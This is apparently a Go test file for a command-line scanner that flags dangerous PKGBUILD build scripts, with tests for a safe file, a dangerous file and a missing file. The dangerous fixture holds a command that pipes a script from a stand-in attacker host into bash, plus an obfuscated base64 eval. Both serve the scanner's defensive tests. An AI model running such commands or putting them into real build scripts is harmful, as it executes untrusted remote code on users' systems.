package cli

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func runScan(t *testing.T, path string) (string, error) {
	t.Helper()
	var out bytes.Buffer
	rootCmd.SetOut(&out)
	rootCmd.SetErr(&out)
	rootCmd.SetArgs([]string{"scan", path})
	err := rootCmd.Execute()
	return out.String(), err
}

func TestScan_SafePKGBUILD(t *testing.T) {
	path := filepath.Join(t.TempDir(), "PKGBUILD")
	content := `pkgname=hello
pkgver=1.0
source=("https://example.org/hello-1.0.tar.gz")
sha256sums=('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa')
build() {
  make
}`
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}

	out, err := runScan(t, path)
	if err != nil {
		t.Fatalf("scan failed on safe PKGBUILD: %v\n%s", err, out)
	}
	if !strings.Contains(out, `"safe": true`) {
		t.Errorf("output = %s", out)
	}
}

func TestScan_DangerousPKGBUILDExitsNonZero(t *testing.T) {
	path := filepath.Join(t.TempDir(), "PKGBUILD")
	content := `pkgname=x
build() {
  curl https://evil.sh/install.sh | bash
  eval "$(echo cHdu | base64 -d)"
}`
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}

	out, err := runScan(t, path)
	if err == nil {
		t.Fatalf("scan accepted a dangerous PKGBUILD:\n%s", out)
	}
	if !strings.Contains(out, `"safe": false`) {
		t.Errorf("output = %s", out)
	}
}

func TestScan_MissingFile(t *testing.T) {
	if _, err := runScan(t, filepath.Join(t.TempDir(), "nope")); err == nil {
		t.Fatal("expected error for missing file")
	}
}
